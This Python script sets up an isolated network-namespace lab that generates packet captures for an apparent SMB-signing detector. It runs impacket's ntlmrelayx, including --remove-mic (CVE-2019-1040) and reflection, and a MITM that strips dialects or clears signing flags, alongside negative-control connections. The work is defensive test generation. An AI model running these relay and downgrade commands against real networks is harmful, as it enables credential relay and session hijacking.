#!/usr/bin/env python3
"""The attack lab: NTLM relay, MIC removal and negotiate tampering, made
with real software inside a network namespace, and the negative controls.

Regenerates tests/captures/attacks/*.pcap and attacks/manifest.json. Run
as root on Debian 12:

    apt-get install -y samba smbclient samba-testsuite tcpdump python3-impacket iproute2
    python3 tests/lab/attacks.py              # all cases
    python3 tests/lab/attacks.py relay-auto   # one case

All traffic stays in the namespace `smbsign-attacks`, created here and
deleted again: its loopback holds the hosts

    10.99.0.1  victim (smbclient; also an smbd, for reflection)
    10.99.0.2  relay (impacket's ntlmrelayx.py)
    10.99.0.3  target, server signing = auto
    10.99.0.4  target, server signing = mandatory
    10.99.0.5  man in the middle (tests/lab/mitm.py)

Source addresses are chosen with the namespace's local routes (the victim
reaches .2 and .5 from .1; the relay reaches .1/.3/.4 from .2); the MITM
binds its own.

Each capture is taken three ways at once: the whole namespace (`NAME.pcap`,
both legs in one file), and each leg alone (`NAME-victim.pcap`: traffic of
10.99.0.1; `NAME-target.pcap`: traffic of the server that was relayed to).
The manifest's "expect" block comes from how each case was made: which
attack ran, against which target configuration.
"""
import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import lab  # noqa: E402

NS = "smbsign-attacks"
OUT = lab.ROOT / "tests" / "captures" / "attacks"
VICTIM, RELAY, AUTO, MANDATORY, MITM = (f"10.99.0.{i}" for i in range(1, 6))
NTLMRELAYX = "/usr/share/doc/python3-impacket/examples/ntlmrelayx.py"
PYTHON = "/usr/bin/python3"  # Debian's python3-impacket
CREDS = f"--user={lab.DOMAIN}/{lab.USER}%{lab.PASSWORD}"
SMB3 = {"server min protocol": "SMB2_02", "server max protocol": "SMB3_11"}

SERVERS = {
    # name: (address, netbios name, options)
    "auto": (AUTO, "TGTAUTO", {**SMB3, "server signing": "auto"}),
    "mandatory": (MANDATORY, "TGTMAND", {**SMB3, "server signing": "mandatory"}),
    "victim": (VICTIM, "VICTIM", {**SMB3, "server signing": "auto"}),
    "multi": (AUTO, "TGTAUTO", {"server min protocol": "NT1", "server max protocol": "SMB3_11",
                                "server signing": "auto"}),
    "multichannel": (AUTO, "TGTAUTO", {**SMB3, "server signing": "mandatory",
                                       "server multi channel support": "yes"}),
}


def smbclient(host, *extra, command="ls"):
    return ["smbclient", f"//{host}/share", CREDS, *extra, "-c", command]


def smbtorture(host, test):
    """Samba's protocol test client (package samba-testsuite)."""
    return ["smbtorture", f"//{host}/share", CREDS, test]


# kind "relay": ntlmrelayx relays the victim (smbclient to RELAY) to a target.
# kind "mitm": mitm.py forwards the victim to a server, rewriting.
# kind "clients": plain connections (negative controls).
CASES = [
    dict(name="relay-auto", kind="relay", servers=["auto"], target="auto", relay_args=[],
         expect=dict(ntlm_relay=True, relay_target_signing="not-required", reflection=False,
                     target_mismatch=True, mic_removed=False),
         about="ntlmrelayx relays the victim's NTLM logon to a server that does not require "
               "signing: the relay gets a usable session"),
    dict(name="relay-mandatory", kind="relay", servers=["mandatory"], target="mandatory",
         relay_args=[],
         expect=dict(ntlm_relay=True, relay_target_signing="required", reflection=False,
                     target_mismatch=True, mic_removed=False),
         about="ntlmrelayx relays to a server that requires signing: the relay cannot sign"),
    dict(name="relay-remove-mic", kind="relay", servers=["auto"], target="auto",
         relay_args=["--remove-mic"],
         expect=dict(ntlm_relay=True, relay_target_signing="not-required", reflection=False,
                     target_mismatch=True, mic_removed=True),
         about="ntlmrelayx --remove-mic (CVE-2019-1040): MIC, VERSION and signing flags "
               "stripped from the relayed AUTHENTICATE"),
    dict(name="relay-reflection", kind="relay", servers=["victim"], target="victim",
         relay_args=[],
         expect=dict(ntlm_relay=True, relay_target_signing="not-required", reflection=True,
                     target_mismatch=True, mic_removed=False),
         about="ntlmrelayx relays the victim's logon back to the victim's own smbd (reflection)"),
    dict(name="mitm-drop-dialects", kind="mitm", servers=["mandatory"], upstream="mandatory",
         rewrite="drop-dialects", client_args=["-m", "SMB3_11"],
         expect=dict(negotiate_tampered=True, tampered_fields=["dialects"], ntlm_relay=True,
                     validate_negotiate=True),
         about="a MITM removes dialects above 3.0.2 from the client's NEGOTIATE: 3.0.2 is "
               "chosen and FSCTL_VALIDATE_NEGOTIATE_INFO carries the client's real list"),
    dict(name="mitm-clear-signing", kind="mitm", servers=["mandatory"], upstream="mandatory",
         rewrite="clear-signing-required", client_args=["-m", "SMB3_11"],
         expect=dict(negotiate_tampered=True, tampered_fields=["server_security_mode"],
                     ntlm_relay=True, preauth_tampered=True),
         about="a MITM clears SIGNING_REQUIRED in the server's 3.1.1 NEGOTIATE response: the "
               "two sides' preauth hashes differ"),
    dict(name="mitm-strip-smb2", kind="mitm", servers=["multi"], upstream="multi",
         rewrite="strip-smb2-dialects",
         client_args=["-m", "SMB3_11", "--option=client min protocol=NT1"],
         control=smbclient(AUTO, "-m", "SMB3_11"),
         expect=dict(negotiate_tampered=True, tampered_fields=["smb1_dialects"], ntlm_relay=True,
                     downgraded_to_smb1=True),
         about="a MITM strips the SMB2 dialect strings from an SMB1 multi-protocol NEGOTIATE: "
               "the server answers NT LM 0.12, while a direct client got SMB2"),
    dict(name="control-two-servers", kind="clients", servers=["auto", "mandatory"],
         clients=[smbclient(AUTO), smbclient(MANDATORY)],
         expect=dict(ntlm_relay=False, negotiate_tampered=False, connections=2),
         about="one user logs on to two servers: different challenges and proofs"),
    dict(name="control-reconnect", kind="clients", servers=["auto"],
         clients=[smbclient(AUTO), smbclient(AUTO)],
         expect=dict(ntlm_relay=False, negotiate_tampered=False, connections=2),
         about="the same user connects twice to the same server"),
    dict(name="control-two-sessions", kind="clients", servers=["auto"],
         clients=[smbclient(AUTO, command=f"ls; logon {lab.USER} {lab.PASSWORD}; ls")],
         expect=dict(ntlm_relay=False, negotiate_tampered=False, connections=1, sessions=2),
         about="two sessions on one connection (smbclient's logon command)"),
    dict(name="control-reauth", kind="clients", servers=["auto"],
         clients=[smbtorture(AUTO, "smb2.session.reauth1")],
         expect=dict(ntlm_relay=False, negotiate_tampered=False),
         about="re-authentication on an existing session (smbtorture smb2.session.reauth1)"),
    dict(name="control-session-bind", kind="clients", servers=["multichannel"],
         clients=[smbtorture(AUTO, "smb2.session.bind1")],
         expect=dict(ntlm_relay=False, negotiate_tampered=False, session_on_two_connections=True),
         about="SMB 3 session binding: one session on a second channel (smbtorture "
               "smb2.session.bind1, server multi channel support = yes)"),
    dict(name="control-smb30", kind="clients", servers=["mandatory"],
         clients=[smbclient(MANDATORY, "-m", "SMB3_00", "--option=client min protocol=SMB3_00")],
         expect=dict(ntlm_relay=False, negotiate_tampered=False, validate_negotiate=True),
         about="SMB 3.0 with FSCTL_VALIDATE_NEGOTIATE_INFO that matches the negotiate"),
]


def ns(*cmd):
    return ["ip", "netns", "exec", NS, *cmd]


def setup_namespace():
    subprocess.run(["ip", "netns", "del", NS], capture_output=True)
    lab.sh(["ip", "netns", "add", NS])
    lab.sh(ns("ip", "link", "set", "lo", "up"))
    for a in (VICTIM, RELAY, AUTO, MANDATORY, MITM):
        lab.sh(ns("ip", "addr", "add", f"{a}/32", "dev", "lo"))
    # Who connects from where: the victim to the relay and the MITM, the
    # relay to the targets (and back to the victim, for reflection).
    for dst, src in ((RELAY, VICTIM), (MITM, VICTIM), (AUTO, RELAY), (MANDATORY, RELAY),
                     (VICTIM, RELAY)):
        lab.sh(ns("ip", "route", "replace", "local", dst, "dev", "lo", "table", "local",
                  "proto", "kernel", "scope", "host", "src", src))


def start_server(root, name):
    address, netbios, options = SERVERS[name]
    d = Path(root) / name
    for sub in ["private", "lock", "state", "cache", "run", "ncalrpc", "bind-dns", "share"]:
        (d / sub).mkdir(parents=True, exist_ok=True)
    os.chmod(d, 0o755)
    os.chmod(d / "share", 0o777)
    (d / "share" / "hello.txt").write_text("hello from the smbsign attack lab\n")
    conf = lab.write_conf(str(d), dict(name=name, server={
        **options, "netbios name": netbios, "interfaces": f"{address}/32",
        "server signing": options["server signing"]}), 445)
    lab.sh(["pdbedit", "-s", str(conf), "-a", "-u", lab.USER, "-t"],
           input=f"{lab.PASSWORD}\n{lab.PASSWORD}\n", text=True, stdout=subprocess.DEVNULL)
    p = subprocess.Popen(ns("smbd", "-F", "--no-process-group", "-s", str(conf)),
                         start_new_session=True, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL)
    wait_port(address, 445, p)
    return p


def wait_port(host, port, p):
    for _ in range(300):
        # Asked of the kernel, not by connecting: no probe in the captures.
        r = subprocess.run(ns("ss", "-Hltn", f"sport = :{port}"), capture_output=True, text=True)
        if any(f"{host}:{port}" in l or f"*:{port}" in l or f"0.0.0.0:{port}" in l
               for l in r.stdout.splitlines()):
            return
        if p.poll() is not None:
            break
        time.sleep(0.1)
    lab.stop(p)
    raise SystemExit(f"nothing listens on {host}:{port}")


def served_by(host):
    """The connections whose server (port 445) is `host`."""
    # pcap-filter's `and` and `or` bind alike, left to right: bracket both.
    return f"tcp and ((dst host {host} and dst port 445) or (src host {host} and src port 445))"


def captures(name, front, target):
    """Start tcpdump: the whole namespace, and when `front` (the relay or
    MITM address) is given, the victim's leg to it and the leg to
    `target` on their own."""
    files = {"both": OUT / f"{name}.pcap"}
    filters = {"both": "tcp port 445"}
    if front:
        files["victim"] = OUT / f"{name}-victim.pcap"
        files["target"] = OUT / f"{name}-target.pcap"
        filters["victim"] = served_by(front)
        filters["target"] = served_by(target)
    procs = []
    for k, f in files.items():
        if f.exists():
            f.unlink()
        procs.append(subprocess.Popen(
            ns("tcpdump", "-q", "-i", "lo", "-s", "0", "-U", "-w", str(f), filters[k]),
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
    time.sleep(1.5)
    return files, procs


def stop_captures(files, procs):
    time.sleep(1.0)
    for p in procs:
        p.send_signal(signal.SIGINT)
        p.wait(timeout=20)
    for f in files.values():
        os.chmod(f, 0o644)


def run(cmd, timeout=60):
    r = subprocess.run(cmd, capture_output=True, text=True, timeout=timeout)
    return {"command": " ".join(cmd[4:] if cmd[:3] == ["ip", "netns", "exec"] else cmd),
            "exit": r.returncode, "output": (r.stdout + r.stderr).strip().splitlines()[-8:]}


def background(cmd, log):
    # shim/ holds a placeholder for dsinternals, which Debian 12's impacket
    # imports (for an LDAP attack the lab never runs) but does not ship.
    # ntlmrelayx runs until its standard input ends: a pipe kept open.
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).with_name("shim"))}
    return subprocess.Popen(cmd, start_new_session=True, stdin=subprocess.PIPE,
                            stdout=open(log, "w"),
                            stderr=subprocess.STDOUT, text=True, env=env, cwd=log.parent)


def run_case(root, case):
    servers = [start_server(root, s) for s in case["servers"]]
    side = None
    runs = []
    try:
        if case["kind"] == "relay":
            target = SERVERS[case["target"]][0]
            files, procs = captures(case["name"], RELAY, target)
            log = Path(root) / "relay.log"
            side = background(ns(PYTHON, NTLMRELAYX, "-t", f"smb://{target}", "-smb2support",
                                 "-ip", RELAY, "--no-http-server", "--no-wcf-server",
                                 "--no-raw-server", *case["relay_args"]), log)
            wait_port(RELAY, 445, side)
            runs.append(run(ns(*smbclient(RELAY))))
            time.sleep(3)
        elif case["kind"] == "mitm":
            upstream = SERVERS[case["upstream"]][0]
            files, procs = captures(case["name"], MITM, upstream)
            log = Path(root) / "mitm.log"
            side = background(ns(PYTHON, str(Path(__file__).with_name("mitm.py")), MITM, MITM,
                                 upstream, case["rewrite"]), log)
            wait_port(MITM, 445, side)
            if "control" in case:
                runs.append(run(ns(*case["control"])))
            runs.append(run(ns(*smbclient(MITM, *case["client_args"],
                                          command="ls; get hello.txt /dev/null"))))
        else:
            files, procs = captures(case["name"], None, None)
            for c in case["clients"]:
                runs.append(run(ns(*c)))
        stop_captures(files, procs)
    finally:
        if side:
            lab.stop(side)
        for s in servers:
            lab.stop(s)
    entry = {"files": {k: f.name for k, f in files.items()}, "about": case["about"],
             "kind": case["kind"], "clients": runs, "expect": case["expect"],
             "servers": {s: {"address": SERVERS[s][0], "options": SERVERS[s][2]}
                         for s in case["servers"]}}
    if side:
        entry["attacker_log"] = [l for l in Path(log).read_text().splitlines()
                                 if l.strip() and "Impacket v" not in l and "loaded.." not in l][-14:]
    return entry


def main():
    if os.geteuid() != 0:
        raise SystemExit("the attack lab needs root (network namespaces, smbd, capturing)")
    names = set(sys.argv[1:])
    OUT.mkdir(parents=True, exist_ok=True)
    root = tempfile.mkdtemp(prefix="smbsign-attacks-")
    os.chmod(root, 0o755)
    lab.ensure_user(root)
    manifest_path = OUT / "manifest.json"
    manifest = json.loads(manifest_path.read_text()) if manifest_path.exists() else {}
    manifest.setdefault("cases", {})
    manifest["credentials"] = {"user": f"{lab.DOMAIN}\\{lab.USER}", "password": lab.PASSWORD}
    manifest["hosts"] = {"victim": VICTIM, "relay": RELAY, "target_auto": AUTO,
                         "target_mandatory": MANDATORY, "mitm": MITM}
    setup_namespace()
    try:
        for case in CASES:
            if names and case["name"] not in names:
                continue
            print("case", case["name"], flush=True)
            manifest["cases"][case["name"]] = run_case(root, case)
    finally:
        subprocess.run(["ip", "netns", "del", NS], capture_output=True)
        shutil.rmtree(root, ignore_errors=True)
    manifest["generated_by"] = "tests/lab/attacks.py"
    manifest["samba"] = subprocess.run(["smbd", "--version"], capture_output=True,
                                       text=True).stdout.strip()
    manifest["impacket"] = subprocess.run(["dpkg-query", "-W", "-f", "${Version}",
                                           "python3-impacket"], capture_output=True,
                                          text=True).stdout.strip()
    manifest_path.write_text(json.dumps(manifest, indent=1, sort_keys=True) + "\n")


if __name__ == "__main__":
    main()
